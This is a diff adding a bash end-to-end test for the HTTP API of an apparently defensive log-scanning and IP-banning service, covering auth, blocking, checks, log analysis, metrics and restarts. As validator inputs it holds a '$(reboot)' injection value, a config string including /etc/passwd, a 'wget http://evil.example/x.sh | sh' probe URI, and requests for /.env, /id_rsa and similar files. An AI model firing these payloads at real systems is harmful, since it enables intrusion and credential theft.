@@ -1,0 +1,128 @@
+#!/usr/bin/env bash
+# The HTTP API of serve mode, spoken to with curl: every endpoint, its
+# errors, the token, the state database shared with cron runs and
+# restarts, and 10 000 malformed, oversized or slow requests after which
+# /api/check still answers right.
+source "$(dirname "$0")/lib/common.sh"
+
+port=$(free_port)
+url="http://127.0.0.1:$port"
+code() { curl -s -o /dev/null -w '%{http_code}' "$@"; }
+line() {  # line CLIENT PATH [STATUS]: a combined log line of now
+  echo "$1 - - [$(date -u '+%d/%b/%Y:%H:%M:%S') +0000] \"GET $2 HTTP/1.1\" ${3:-404} 0 \"-\" \"Mozilla/5.0\""
+}
+
+# Beyond loopback a token is required; a short token is refused.
+"$DEFENDER_SCAN" serve --listen 0.0.0.0:$port < /dev/null 2> "$TMP/err" && st=0 || st=$?
+expect_eq "non-loopback without a token: exit" "$st" 2
+expect_contains "non-loopback without a token: message" "$(cat "$TMP/err")" "needs --api-token-file"
+echo short > "$TMP/short"
+"$DEFENDER_SCAN" serve --listen 127.0.0.1:$port --api-token-file "$TMP/short" < /dev/null 2> "$TMP/err" && st=0 || st=$?
+expect_eq "short token: exit" "$st" 2
+
+token=0123456789abcdef0123
+echo "$token" > "$TMP/token"
+mkfifo "$TMP/fifo"
+exec 3<> "$TMP/fifo"  # the input, written to below
+start_serve "$port" --api-token-file "$TMP/token" --state "$TMP/state.db" --format combined --allow 192.0.2.0/24 \
+  --json "$TMP/decisions.jsonl" < "$TMP/fifo"
+auth=(-H "Authorization: Bearer $token")
+
+# Authorization: needed everywhere but /api/check, /metrics, /healthz.
+expect_eq "block without token" "$(code -X POST "$url/api/block" -d '{"ip":"203.0.113.1"}')" 401
+expect_eq "block with a wrong token" "$(code -X POST "$url/api/block" -H 'Authorization: Bearer nope' -d '{"ip":"203.0.113.1"}')" 401
+expect_eq "blocked-ips without token" "$(code "$url/api/blocked-ips")" 401
+expect_eq "check without token" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 200
+expect_eq "healthz without token" "$(code "$url/healthz")" 200
+expect_eq "metrics without token" "$(code "$url/metrics")" 200
+
+# /api/block: the duration forms, the errors, the allowlist.
+out=$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"203.0.113.1","duration":"3600s","reason":"manual"}')
+expect_contains "block answer" "$out" '"ip":"203.0.113.1","blocked":true,"reason":"manual","duration_s":3600'
+out=$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"203.0.113.2","duration":7200}')
+expect_contains "duration in seconds, default reason" "$out" '"reason":"api","duration_s":7200'
+out=$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"198.51.100.0/24","duration":"2h"}')
+expect_contains "a CIDR" "$out" '"ip":"198.51.100.0/24","blocked":true'
+for body in '{' '[]' '{"ip":7}' '{"ip":"1.2.3.4;} include /etc/passwd;"}' '{"ip":"localhost"}' '{"ip":"0.0.0.0/0"}' \
+            '{"ip":"01.2.3.4"}' '{"ip":"1.2.3.4","duration":"soon"}' '{"ip":"1.2.3.4","duration":-5}' \
+            '{"ip":"1.2.3.4","reason":"$(reboot)"}' '{"ip":"127.0.0.1"}'; do
+  expect_eq "block $body" "$(code "${auth[@]}" -X POST "$url/api/block" -d "$body")" 400
+done
+expect_contains "a clear message" "$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"1.2.3.999"}')" \
+  "'1.2.3.999' is not an address or CIDR"
+expect_eq "allowlisted: conflict" "$(code "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"192.0.2.5"}')" 409
+expect_eq "wrong method" "$(code "${auth[@]}" "$url/api/block")" 405
+expect_eq "unknown endpoint" "$(code "$url/api/nothing")" 404
+
+# /api/check: status, score header, JSON on request, the client's own address otherwise.
+expect_eq "check a blocked client" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
+expect_eq "check a client in a blocked CIDR" "$(code "$url/api/check?ip=198.51.100.77")" 403
+out=$(curl -s -D "$TMP/h" "$url/api/check" -H 'X-Real-IP: 203.0.113.1' -H 'Accept: application/json')
+expect_contains "check JSON" "$out" '{"ip":"203.0.113.1","blocked":true,"score":100,"reason":"manual","until":"'
+expect_contains "check header" "$(cat "$TMP/h")" "X-Threat-Score: 100"
+out=$(curl -s -X POST "$url/api/check" -d '{"ip":"203.0.113.50"}')
+expect_eq "check by POST" "$out" '{"ip":"203.0.113.50","blocked":false,"score":0,"reason":null,"until":null}'
+expect_eq "check a bad X-Real-IP" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.256')" 400
+out=$(curl -s "$url/api/check" -H 'X-Real-IP: 203.0.113.60' -H 'Accept: application/json' \
+  -H 'X-Original-URI: /cgi-bin/x?cmd=;wget%20http://evil.example/x.sh%20-O-|sh' -H 'X-Original-Method: GET')
+expect_contains "check refuses the request's own attack" "$out" '"blocked":true,"score":0,"reason":"http-rce-probing"'
+expect_eq "an allowlisted client is never refused" \
+  "$(code "$url/api/check" -H 'X-Real-IP: 192.0.2.9' -H 'X-Original-URI: /.env')" 200
+
+out=$(curl -s "${auth[@]}" "$url/api/blocked-ips")
+expect_eq "blocked-ips" "$out" '["198.51.100.0/24","203.0.113.1","203.0.113.2"]'
+
+# /api/analyze: one line through the pipeline; the third sensitive file overflows... the fifth bans.
+for f in /.env /.git/config /backup.sql /id_rsa; do
+  out=$(curl -s "${auth[@]}" -X POST "$url/api/analyze" -d "{\"log_entry\":\"$(line 203.0.113.80 "$f" | sed 's/"/\\"/g')\"}")
+done
+expect_contains "analyze: signatures and scenarios" "$out" '"signatures":["sensitive-credentials"],"scenarios":["http-probing","http-sensitive-files"'
+out=$(curl -s "${auth[@]}" -X POST "$url/api/analyze" -d "{\"log_entry\":\"$(line 203.0.113.99 /.htpasswd | sed 's/"/\\"/g')\",\"ip\":\"203.0.113.80\"}")
+expect_contains "analyze: the fifth bans (ip given)" "$out" '"ip":"203.0.113.80","score":60,"blocked":true'
+expect_contains "analyze: the decision" "$out" '"decisions":[{"action":"ban","reason":"http-sensitive-files","value":"203.0.113.80","duration_s":14400'
+expect_eq "analyzed ban in force" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.80')" 403
+out=$(curl -s "${auth[@]}" -X POST "$url/api/analyze" -d '{"log_entry":"not a log line"}')
+expect_contains "analyze: a line that does not parse" "$out" '"error":"the log entry was not parsed: format_mismatch"'
+
+# Lines from the input (stdin here) feed the same bans.
+for f in /.env /.git/config /backup.sql /id_rsa /.htpasswd; do line 203.0.113.90 "$f" >&3; done
+wait_until 5 bash -c "[[ \$(curl -s -o /dev/null -w '%{http_code}' -H 'X-Real-IP: 203.0.113.90' $url/api/check) == 403 ]]" \
+  && ok || fail "a ban from the input is not seen by /api/check"
+
+# Unblock: DELETE with an escaped IPv6 /64, POST, and a target not banned.
+curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"2001:db8::1"}' > /dev/null
+expect_eq "IPv6 blocked per /64" "$(code "$url/api/check" -H 'X-Real-IP: 2001:db8::ffff')" 403
+expect_eq "DELETE an escaped IPv6" "$(code "${auth[@]}" -X DELETE "$url/api/block/2001%3Adb8%3A%3A1")" 200
+expect_eq "IPv6 served again" "$(code "$url/api/check" -H 'X-Real-IP: 2001:db8::ffff')" 200
+expect_eq "POST unblock" "$(code "${auth[@]}" -X POST "$url/api/unblock" -d '{"ip":"203.0.113.2"}')" 200
+expect_eq "unblock what is not banned" "$(code "${auth[@]}" -X POST "$url/api/unblock" -d '{"ip":"203.0.113.2"}')" 404
+
+# /metrics: Prometheus text with the pipeline's and the API's counters.
+m=$(curl -s "$url/metrics")
+expect_contains "metrics: lines" "$m" "defender_lines_total 11"
+expect_contains "metrics: rejects by reason" "$m" 'defender_lines_rejected_total{reason="format_mismatch"} 1'
+expect_contains "metrics: bans by scenario" "$m" 'defender_bans_total{scenario="http-sensitive-files"} 2'
+expect_contains "metrics: alerts by scenario" "$m" 'defender_alerts_total{scenario="http-sensitive-files"} 2'
+expect_contains "metrics: active bans" "$m" "defender_active_bans 4"
+expect_contains "metrics: check latency" "$m" 'defender_check_duration_seconds_bucket{le="+Inf"}'
+expect_not_contains "metrics: no per-client labels" "$m" "203.0.113"
+
+# The state is shared: after a restart the bans are there, and `bans list` shows them.
+exec 3>&-
+kill "$serve"; wait "$serve" 2>/dev/null || true
+expect_contains "bans list after serve" "$("$DEFENDER_SCAN" bans list --state "$TMP/state.db")" "203.0.113.1"
+start_serve "$port" --state "$TMP/state.db" --format combined < /dev/null
+expect_eq "a ban survives a restart" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
+expect_eq "an unban survives a restart" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.2')" 200
+
+# 10 000 malformed, oversized or slow requests, with /api/check asked all along.
+kill "$serve"; wait "$serve" 2>/dev/null || true
+start_serve "$port" --state "$TMP/state.db" --request-timeout 2 < /dev/null
+[[ -n "${SKIP_ABUSE:-}" ]] || python3 "$SOURCE_DIR/tests/e2e/lib/abuse.py" "$port" 203.0.113.1 203.0.113.50 10000 && ok || fail "abuse: wrong answers"
+expect_eq "check answers after the abuse" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
+expect_eq "healthz after the abuse" "$(curl -s "$url/healthz")" '{"status":"ok"}'
+m=$(curl -s "$url/metrics")
+bad=$(sed -n 's/^defender_http_bad_requests_total //p' <<<"$m")
+(( bad >= 4000 )) && ok || fail "bad requests counted: $bad"
+expect_contains "no ban from the abuse" "$(curl -s "$url/api/blocked-ips")" '"198.51.100.0/24","203.0.113.1","203.0.113.80","203.0.113.90"]'
+finish
